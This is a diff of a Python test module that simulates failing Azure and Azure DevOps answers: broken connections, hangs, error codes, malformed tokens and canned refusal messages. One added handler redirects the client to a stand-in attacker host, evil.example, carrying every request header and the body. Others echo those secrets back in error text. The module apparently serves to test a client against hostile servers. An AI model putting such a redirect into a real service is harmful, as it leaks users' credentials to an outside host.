@@ -1,13 +1,14 @@
-"""What may go wrong with an answer of the simulated Azure: values for Azure.faults."""
+"""Answers of services and of networks that fail, to be put into Azure.faults."""
 
 from __future__ import annotations
 
 import os
 import socket
 import struct
-import time
 
 from simulated_services import Answer, Handler
+
+# --- What is no answer; another attempt may have one
 
 
 def drop(handler: Handler) -> None:
@@ -25,54 +26,82 @@ def cut(handler: Handler) -> None:
 
 
 def cut_chunked(handler: Handler) -> None:
-    handler.wfile.write(b"HTTP/1.1 401 No\r\nTransfer-Encoding: chunked\r\n\r\n10\r\n{")
+    chunk = b"Transfer-Encoding: chunked\r\n\r\n10\r\n{"
+    handler.wfile.write(b"HTTP/1.1 401 No\r\n" + chunk)
 
 
 def garbage(handler: Handler) -> None:
-    handler.wfile.write(b"nonsense\r\n\r\n")
+    """Answer with all that was sent, which is no HTTP."""
+    handler.wfile.write(sent(handler).encode())
 
 
 def hang(handler: Handler) -> None:
-    handler.connection.recv(1)
+    handler.connection.recv(1)  # until the client hangs up
+
+
+BROKEN: list[Answer] = [drop, reset, cut, cut_chunked, garbage]
+
+# --- Answers
+
+
+def sent(handler: Handler) -> str:
+    """Return all that a request sent, secrets and all."""
+    return " ".join([*handler.headers.values(), handler.body.decode()])
 
 
 def echo(handler: Handler) -> None:
-    """Answer with what was sent, secrets and all."""
-    handler.answer(400, {"message": f"{handler.headers} {handler.body!r}"})
+    """Refuse in words that hold all that was sent."""
+    handler.answer(400, {"message": sent(handler)})
 
 
-def flood(handler: Handler) -> None:
-    """Answer without end."""
-    handler.wfile.write(b"HTTP/1.1 401 No\r\n\r\n")
-    while True:
-        handler.wfile.write(bytes(65536))
+def echo_phrase(handler: Handler) -> None:
+    """Refuse likewise, but where Azure DevOps has its words."""
+    handler.answer(403, reason=sent(handler))
 
 
-def status(code: int, content: object = "<html>", **headers: str) -> Answer:
+def redirect(handler: Handler) -> None:
+    """Send the client to another host, with all that was sent."""
+    handler.answer(302, headers={"Location": f"https://evil.example/?{sent(handler)}"})
+
+
+def nonsense(handler: Handler) -> None:
+    """Answer that all is well, in words of the wrong kinds."""
+    handler.answer(200, {"token": ["x"], "access_token": 7, "value": ""})
+
+
+def status(code: int, **headers: str) -> Answer:
     def answer(handler: Handler) -> None:
-        handler.answer(code, content, headers)
+        handler.answer(code, "<html>", headers)
 
     answer.__name__ = str(code)
     return answer
 
 
-def drip(start: bytes, more: bytes) -> Answer:
-    """Be never silent and never done, until the other end hangs up."""
+def refuses(status: int, message: str, type_key: str = "") -> Answer:
+    """Return the answer of an API of Azure DevOps that refuses in these words."""
 
     def answer(handler: Handler) -> None:
-        handler.wfile.write(start)
-        while True:
-            handler.wfile.write(more)
-            time.sleep(0.05)
+        handler.refuse(status, message, type_key)
 
     return answer
 
 
-CONTINUE = b"HTTP/1.1 100 Continue\r\n\r\n"
-DRIPS = {
-    "headers": drip(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n"),
-    "a body": drip(b"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n{", b" "),
-    "interim answers": drip(CONTINUE, CONTINUE),
-}
-BROKEN = [drop, reset, cut, cut_chunked, garbage]
-OVERLOADED = [status(code) for code in (429, 500, 502, 503, 504)]
+# Why the token service refuses a person who has a token of the tenant
+NOT_MATERIALIZED = refuses(
+    403,
+    "Identity 77777777-0000-0000-0000-000000000000 has not been materialized, please"
+    " use interactive login over the browser first.",
+    "AadUserStateException",
+)
+TF401444 = refuses(
+    401,
+    "TF401444: Please sign-in at least once as 77777777\\dev@contoso.com in a web"
+    " browser to enable access to the service.",
+    "UnauthorizedRequestException",
+)
+VS403463 = refuses(
+    403,
+    "VS403463: The conditional access policy defined by your Microsoft Entra"
+    " administrator has failed.",
+    "ConditionalAccessPolicyException",
+)
